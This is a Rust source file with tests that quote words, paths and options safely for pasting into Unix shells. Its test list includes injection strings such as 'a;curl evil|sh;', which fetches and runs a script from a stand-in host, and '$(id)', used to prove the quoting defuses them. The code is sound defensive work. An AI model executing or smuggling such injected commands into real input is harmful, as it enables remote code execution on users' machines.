//! Commands that are shown to be pasted: each word comes back from the shell as it
//! went in, whatever is in it.
//!
//! Most words stand as they are or in single quotes, which every shell takes. A word
//! with characters that cannot be shown, or that is no UTF-8, needs the `$'…'` of
//! bash, zsh, ksh, busybox and POSIX.1-2024. An old dash does not know it and takes
//! such a word for another one, which is a wrong name and never a command.

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;

use super::is_plain;

/// One word for a shell.
pub fn quote(word: impl AsRef<OsStr>) -> String {
    let word = word.as_ref();
    match word.to_str() {
        Some(text) if is_bare(text) => text.to_owned(),
        Some(text) if text.chars().all(is_plain) => {
            format!("'{}'", text.replace('\'', r"'\''"))
        }
        _ => with_numbers(word.as_bytes()),
    }
}

/// A path for a command that takes options, too.
pub fn operand(path: impl AsRef<Path>) -> String {
    let path = path.as_ref();
    match path.as_os_str().as_bytes().starts_with(b"-") {
        true => quote(Path::new(".").join(path)),
        false => quote(path),
    }
}

/// An option of ours with its value, which may look like an option.
pub fn option(name: &str, value: &str) -> String {
    let between = if value.starts_with('-') { '=' } else { ' ' };
    format!("{name}{between}{}", quote(value))
}

/// A whole command.
pub fn command<W: AsRef<OsStr>>(words: impl IntoIterator<Item = W>) -> String {
    let words: Vec<String> = words.into_iter().map(quote).collect();
    words.join(" ")
}

/// Whether no shell sees more in it than a word. At its beginning `=` is for zsh the
/// path of a program.
fn is_bare(word: &str) -> bool {
    let bare = |c: char| c.is_ascii_alphanumeric() || "-_./=:@,+".contains(c);
    !word.is_empty() && !word.starts_with('=') && word.chars().all(bare)
}

/// With octal numbers, of three digits each: no character behind one is taken for a
/// part of it. `!` is a number too, as bash looks for its history in such a word.
fn with_numbers(word: &[u8]) -> String {
    let number = |byte: &u8| format!("\\{byte:03o}");
    let mut quoted = "$'".to_owned();
    for chunk in word.utf8_chunks() {
        for c in chunk.valid().chars() {
            match is_plain(c) && !r"\'!".contains(c) {
                true => quoted.push(c),
                false => quoted.extend(c.encode_utf8(&mut [0; 4]).as_bytes().iter().map(number)),
            }
        }
        quoted.extend(chunk.invalid().iter().map(number));
    }
    quoted.push('\'');
    quoted
}

#[cfg(test)]
mod tests {
    use std::process::Command;

    use super::*;

    /// Words that a shell would see something in.
    const WORDS: [&[u8]; 24] = [
        b"",
        b"plain-word_1.2/x:y@z,+",
        b"a b",
        b"a;curl evil|sh;",
        b"$HOME $(id) `id` ${x}",
        b"it's",
        b"'",
        b"\"quoted\"",
        b"*?[a]{b,c}",
        b"~root",
        b"#comment",
        b"!history !! it's!",
        b"=ls",
        b"a=b",
        b"-rf",
        b"back\\slash\\n\\",
        b"a\nb\n",
        b"\t\r\x1b[31m\x07\x7f",
        b"\x1b'!\\\"1",
        "é 漢字".as_bytes(),
        "a\u{202e}b\u{9b}0".as_bytes(),
        b"no \xff\xfe utf\xc3",
        b"\xff7",
        b"<>&()^%",
    ];

    fn word(bytes: &[u8]) -> &OsStr {
        OsStr::from_bytes(bytes)
    }

    #[test]
    fn a_word_comes_back_from_bash_as_it_went_in() {
        for bytes in WORDS {
            let quoted = quote(word(bytes));
            assert!(quoted.chars().all(is_plain), "{quoted:?}");
            assert_eq!(said("bash", &quoted), bytes, "{quoted}");
        }
        let all = command(WORDS.map(word));
        let script = format!("set -- {all}; printf %s $#");
        assert_eq!(run("bash", &script), b"24");
    }

    #[test]
    fn any_shell_takes_what_can_be_shown() {
        let shown =
            |bytes: &&[u8]| std::str::from_utf8(bytes).is_ok_and(|text| text.chars().all(is_plain));
        for bytes in WORDS.into_iter().filter(shown) {
            let quoted = quote(word(bytes));
            assert_eq!(said("sh", &quoted), bytes, "{quoted}");
        }
    }

    /// What a shell makes of it as the only word.
    fn said(shell: &str, quoted: &str) -> Vec<u8> {
        run(shell, &format!("printf %s {quoted}"))
    }

    fn run(shell: &str, script: &str) -> Vec<u8> {
        let output = Command::new(shell).args(["-c", script]).output().unwrap();
        assert!(output.status.success(), "{script}: {output:?}");
        output.stdout
    }

    #[test]
    fn no_word_looks_like_an_option() {
        assert_eq!(operand("-rf"), "./-rf");
        assert_eq!(operand("-a b"), "'./-a b'");
        assert_eq!(operand("/a/-b"), "/a/-b");
        assert_eq!(option("--host", "db*"), "--host 'db*'");
        assert_eq!(option("--host", "-x"), "--host=-x");
    }
}
